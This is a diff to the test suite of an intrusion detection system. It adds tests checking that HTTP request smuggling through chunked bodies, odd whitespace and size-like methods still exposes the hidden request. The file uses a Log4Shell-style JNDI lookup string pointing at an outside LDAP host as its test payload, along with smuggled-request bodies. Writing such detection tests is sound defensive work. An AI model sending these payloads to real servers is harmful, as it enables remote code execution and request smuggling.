@@ -12,7 +12,7 @@ from ids.counters import Counters
 from ids.protocols.http.content import FREE_MEMBERS, decode_content
 from ids.protocols.http.reports import MAX_REQUESTS_AS_BODY
 from ids.protocols.http.settings import HttpSettings
-from tests.protocols.wire import Wire, request
+from tests.protocols.wire import Wire, chunked, request
 
 LOOKUP = b"${jndi:ldap://192.0.2.66/a}"
 JSON = b'{"name": "' + LOOKUP + b'"}'
@@ -221,6 +221,32 @@ def test_a_body_that_is_many_requests_is_read_as_some_of_them() -> None:
     assert LOOKUP in instances(wire, "http.user_agent")
     wire = sent(request(b"GET /a HTTP/1.1", b"Content-Length: 16000", body=b"GET /\n\n" * 4000))
     assert wire.counters["http.request_as_body"] <= 2 * MAX_REQUESTS_AS_BODY
+
+
+@pytest.mark.parametrize("space", [b"\t", b"\x0b", b"\x0c", b"\x1c", b"\xa0", b"  "])
+@pytest.mark.parametrize("method", [b"PATCH", b"GET"])
+def test_any_white_space_may_stand_in_a_request_that_is_a_body(space: bytes, method: bytes) -> None:
+    """As Python's server has it, which reads no chunks: what follows is the next request to it."""
+    inner = method + space + b"/b" + space + b"HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi" + NEXT
+    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=inner))
+    assert LOOKUP in instances(wire, "http.user_agent")
+
+
+@pytest.mark.parametrize("method", [b"DELETE", b"COPY", b"A", b"DEBUG"])
+@pytest.mark.parametrize("step", [0, 1, 50])
+def test_a_request_whose_method_begins_like_a_size_is_read_where_chunks_are_due(method: bytes, step: int) -> None:
+    """Python's server knows no chunks; nginx takes ``A /b HTTP/1.1`` for a size, and what follows for content."""
+    inner = method + b" /b HTTP/1.1\r\nHost: x\r\n\r\n" + NEXT
+    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=inner), step)
+    assert b"/b" in instances(wire, "http.uri.raw")
+    assert LOOKUP in instances(wire, "http.user_agent")
+
+
+def test_chunks_whose_sizes_are_like_requests_are_read_as_chunks_too() -> None:
+    body = b"A /b HTTP/1.1\r\n" + ENTITY[:10] + b"\r\n" + chunked([ENTITY[10:]])
+    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=body) + request(b"GET /next HTTP/1.1"))
+    assert ENTITY in instances(wire, "http.request_body")
+    assert b"/next" in instances(wire, "http.uri")
 
 
 @pytest.mark.parametrize("body", [b"a=1&b=2", b"GET", b"GETTING / HTTP", b"to HTTP/1.1", b'{"a": "GET / HTTP/1.1"}'])
